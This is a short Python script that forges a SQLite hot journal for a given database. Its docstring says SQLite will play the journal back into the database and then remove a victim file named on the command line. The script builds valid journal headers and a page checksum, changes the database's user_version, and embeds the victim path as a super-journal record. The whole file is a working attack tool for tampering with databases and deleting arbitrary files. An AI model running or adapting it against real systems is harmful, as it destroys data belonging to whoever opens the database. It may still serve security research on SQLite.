"""journal.py DATABASE NAME VICTIM: a hot journal NAME, which SQLite would play back into DATABASE and for which it would then remove VICTIM."""
import struct
import sys

database, name, victim = sys.argv[1:]
with open(database, "rb") as f:
    header = f.read(100)
    size = struct.unpack(">H", header[16:18])[0]
    size = 65536 if size == 1 else size
    f.seek(0)
    page = bytearray(f.read(size))
    pages = f.seek(0, 2) // size
page[60:64] = struct.pack(">I", 99)  # user_version: what was played back is noticed
nonce, sector = 1, 512
checksum = (nonce + sum(page[i] for i in range(size - 200, 0, -200))) & 0xFFFFFFFF
magic = bytes.fromhex("d9d505f920a163d7")
journal = (magic + struct.pack(">IIIII", 1, nonce, pages, sector, size)).ljust(sector, b"\0")
journal += struct.pack(">I", 1) + page + struct.pack(">I", checksum)
path = victim.encode()
journal += struct.pack(">I", (1 << 30) // size + 1) + path + struct.pack(">II", len(path), sum(path) & 0xFFFFFFFF) + magic
with open(name, "wb") as f:
    f.write(journal)
